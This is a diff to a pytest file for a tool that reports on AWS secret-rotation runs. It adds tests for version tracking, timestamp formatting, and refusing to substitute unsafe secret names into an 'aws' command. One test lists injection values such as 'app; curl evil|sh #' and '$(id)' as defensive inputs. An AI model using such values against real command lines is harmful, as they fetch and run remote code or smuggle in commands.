@@ -258,7 +258,7 @@ class Secrets:
 
 
 FAILED = recorded("both-passwords")
-FOUND = About.of(FAILED).target["CurrentVersionId"]
+FOUND, MADE = (About.of(FAILED).target[key] for key in ("CurrentVersionId", "VersionId"))
 LATER, EARLIER = FAILED.stopped + timedelta(hours=6), FAILED.started - timedelta(days=30)
 
 
@@ -268,6 +268,7 @@ LATER, EARLIER = FAILED.stopped + timedelta(hours=6), FAILED.started - timedelta
         ("another", LATER, "a rotation has succeeded, at 2026-11-26 02:48 UTC"),
         ("another", EARLIER, "AWSCURRENT was moved, to another, by a run by hand or a person"),
         (FOUND, EARLIER, "no rotation has succeeded"),
+        (MADE, EARLIER, f"AWSCURRENT is version {MADE}, which this run made"),
         (FOUND, None, "no rotation has succeeded"),
     ],
 )
@@ -300,6 +301,17 @@ def test_a_run_is_named_by_secret_user_and_place() -> None:
     )
 
 
+@pytest.mark.parametrize("secret", ["app; curl evil|sh #", "$(id)", "a\x1b]0;b", "--output", "a b"])
+def test_what_could_be_more_than_an_argument_stays_to_be_filled_in(secret: str) -> None:
+    about = About("", secret, {})
+    assert about.filled("aws x --secret-id SECRET_NAME") == "aws x --secret-id SECRET_NAME"
+
+
+def test_a_run_without_a_secret_is_told_nothing_since() -> None:
+    told = source.since(About("arn", "", {}), FAILED, Secrets())
+    assert told == "Since then: unknown (the run names no secret)"
+
+
 def test_what_is_not_known_stays_to_be_filled_in() -> None:
     begun = Run(visits=FAILED.visits[:1])
     assert About.of(begun).filled("USER_ID of SECRET_NAME") == "USER_ID of SECRET_NAME"
@@ -318,8 +330,9 @@ def test_the_recent_executions_are_listed_newest_first(
     world.put(f"{token}-dry-run-1", order().events, "SUCCEEDED", '{"SecretId": "app"}')
     dry, _, *lines = printed(capsys).splitlines()
     assert dry.endswith("  app  dry run, attempt 1")
+    assert dry.startswith("2026-03-01 12:00 UTC  ")
     assert lines[0].split() == [
-        *("2026-03-01", "11:00", "SUCCEEDED", "1", "min", "30", "s"),
+        *("2026-03-01", "11:00", "UTC", "SUCCEEDED", "1", "min", "30", "s"),
         *("app", "attempt", "2"),
     ]
     assert lines[1].endswith(f":execution:orders:{token}-2")
